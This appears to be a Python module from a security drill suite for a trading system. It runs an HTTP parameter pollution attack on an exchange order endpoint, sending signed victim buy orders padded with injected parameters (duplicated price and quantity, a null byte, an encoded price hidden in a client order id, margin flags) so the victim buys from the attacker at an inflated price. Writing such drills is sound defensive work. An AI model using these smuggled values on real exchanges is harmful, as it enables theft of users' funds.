"""Parameter pollution: words that two readers might take for different orders."""

from tradelatch.drills.attack import Thief
from tradelatch.drills.attacks._tactics import raise_cash

TWISTS = (
    "&price={high}",
    "&Price={high}",
    "&price[]={high}",
    "&quantity=1&quantity={coins}",
    "&quoteOrderQty={money}",
    "&sideEffectType=MARGIN_BUY",
    "&price=%31",
    "&symbol={name}%00",
    "&newClientOrderId=a%26price%3D{high}",
    "&icebergQty=1",
    "",
)


async def attack(thief: Thief) -> None:
    """Every twist twice, in the query and in the body; last the plain words, as they are."""
    thin, victim = thief.thin[0], thief.victim
    money = await raise_cash(thief)
    high, name = (await thief.ticker(thin)).ask * 3, thin.replace("/", "")
    await thief.me.sell(thin, money / high, high)
    plain = victim.order("BUY", thin, money * 0.9 / high, high).query.split("&timestamp")[0]
    for twist in TWISTS:
        more = twist.format(high=f"{high:.8f}", coins=1000, money=money, name=name)
        await victim.send(victim.sign("POST", "/api/v3/order", plain + more))
        await victim.send(victim.sign("POST", "/api/v3/order", plain, more.lstrip("&")))
        await victim.send(victim.sign("POST", "/api/v3//order", plain + more))
